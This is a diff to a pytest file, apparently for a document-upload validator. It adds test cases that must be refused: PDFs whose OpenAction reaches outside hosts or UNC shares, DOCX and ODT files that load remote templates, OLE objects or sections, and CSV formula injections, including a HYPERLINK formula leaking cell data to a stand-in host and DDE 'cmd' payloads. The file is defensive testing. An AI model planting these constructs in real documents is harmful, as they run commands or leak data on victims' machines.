@@ -371,6 +371,111 @@ MORE_IMAGE_ATTACKS = {
 }
 
 
+PDF_EXTERNAL = "membuka alamat web, mengirim formulir, atau membuka berkas lain"
+EXTERNAL_PARTS = "memuat isi dari luar berkas"
+CSV_FORMULA = "dijalankan spreadsheet sebagai rumus"
+TEMPLATE_RELS = (
+    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
+    b'.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats'
+    b'.org/officeDocument/2006/relationships/attachedTemplate" Target="http://contoh.invalid/'
+    b'template.dotm" TargetMode="External"/></Relationships>'
+)
+OLE_RELS = TEMPLATE_RELS.replace(b"attachedTemplate", b"oleObject").replace(
+    b"http://contoh.invalid/template.dotm", b"file://///10.0.0.9/share/x.bin"
+)
+HYPERLINK_RELS = TEMPLATE_RELS.replace(b"attachedTemplate", b"hyperlink").replace(
+    b"template.dotm", b"laporan.html"
+)
+ODT_REMOTE_SECTION = (
+    b'<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument'
+    b':xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink='
+    b'"http://www.w3.org/1999/xlink"><office:body><office:text><text:section text:name="s">'
+    b'<text:section-source xlink:href="http://contoh.invalid/isi.odt"/></text:section>'
+    b"</office:text></office:body></office:document-content>"
+)
+EXTERNAL_CONTENT_ATTACKS = {
+    "pdf-with-uri-action": (
+        "laporan.pdf",
+        raw_pdf(b"/OpenAction << /S /URI /URI (http://contoh.invalid/lacak) >>"),
+        PDF_EXTERNAL,
+    ),
+    "pdf-with-submitform": (
+        "formulir.pdf",
+        raw_pdf(b"/OpenAction << /S /SubmitForm /F (http://contoh.invalid/kirim) >>"),
+        PDF_EXTERNAL,
+    ),
+    "pdf-with-gotor": (
+        "laporan.pdf",
+        raw_pdf(b"/OpenAction << /S /GoToR /F (\\\\10.0.0.9\\share\\a.pdf) /D [0] >>"),
+        PDF_EXTERNAL,
+    ),
+    "pdf-with-gotoe": (
+        "laporan.pdf",
+        raw_pdf(b"/OpenAction << /S /GoToE /T << /R /C /N (a.pdf) >> >>"),
+        PDF_EXTERNAL,
+    ),
+    "pdf-with-escaped-uri": (
+        "laporan.pdf",
+        raw_pdf(b"/OpenAction << /S /U#52I /U#52I (http://contoh.invalid/) >>"),
+        PDF_EXTERNAL,
+    ),
+    "docx-remote-template": (
+        "surat.docx",
+        samples.docx(extra={"word/_rels/settings.xml.rels": TEMPLATE_RELS}),
+        EXTERNAL_PARTS,
+    ),
+    "docx-remote-ole-object": (
+        "surat.docx",
+        samples.docx(extra={"word/_rels/document.xml.rels": OLE_RELS}),
+        EXTERNAL_PARTS,
+    ),
+    "xlsx-external-workbook-link": (
+        "anggaran.xlsx",
+        samples.zip_of(
+            {"xl/workbook.xml": b"<w/>", "xl/externalLinks/externalLink1.xml": b"<x/>"}
+        ),
+        EXTERNAL_PARTS,
+    ),
+    "odt-remote-section": (
+        "notulen.odt",
+        samples.zip_of(
+            {"content.xml": ODT_REMOTE_SECTION},
+            first=("mimetype", b"application/vnd.oasis.opendocument.text"),
+        ),
+        EXTERNAL_PARTS,
+    ),
+    "csv-formula-equals": ("data.csv", b"nama,nilai\nBudi,=1+1\n", CSV_FORMULA),
+    "csv-formula-hyperlink": (
+        "data.csv",
+        b'nama;tautan\nBudi;=HYPERLINK("http://contoh.invalid/?"&A1)\n',
+        CSV_FORMULA,
+    ),
+    "csv-formula-dde-plus": ("data.csv", b"a,b\n+cmd|' /C calc'!A0,1\n", CSV_FORMULA),
+    "csv-formula-minus": ("data.csv", b"a,b\n-2+3+cmd|' /C calc'!A0,1\n", CSV_FORMULA),
+    "csv-formula-at": ("data.csv", b"a\t b\n@SUM(1+1)*cmd|' /C calc'!A0\t1\n", CSV_FORMULA),
+    "csv-quoted-formula": ("data.csv", b'a,b\n"=1+1",x\n', CSV_FORMULA),
+}
+
+
+@pytest.mark.parametrize("attack", EXTERNAL_CONTENT_ATTACKS)
+def test_documents_reaching_outside_the_file_are_refused(operator, attack):
+    name, content, message = EXTERNAL_CONTENT_ATTACKS[attack]
+    assert_refused(post_document(operator, name, content), message)
+
+
+@pytest.mark.parametrize(
+    "name, content",
+    [
+        ("anggaran.csv", b"uraian;jumlah\nBelanja pegawai;-1500000\nKontak;+62 274 123456\n"),
+        ("surat.docx", samples.docx(extra={"word/_rels/document.xml.rels": HYPERLINK_RELS})),
+    ],
+)
+def test_signed_numbers_and_hyperlinks_still_upload(operator, name, content):
+    response = post_document(operator, name, content)
+    assert response.status_code == 302, form_errors(response)
+    assert PPIDDocument.objects.count() == 1
+
+
 @pytest.mark.parametrize("attack", MORE_DOCUMENT_ATTACKS)
 def test_more_document_attacks_are_refused(operator, attack):
     name, content, message = MORE_DOCUMENT_ATTACKS[attack]
@@ -389,6 +494,7 @@ def test_upload_attack_count():
         + len(IMAGE_ATTACKS)
         + len(MORE_DOCUMENT_ATTACKS)
         + len(MORE_IMAGE_ATTACKS)
+        + len(EXTERNAL_CONTENT_ATTACKS)
     )
     print(f"uploads: {total} attack files")
     assert total >= 50
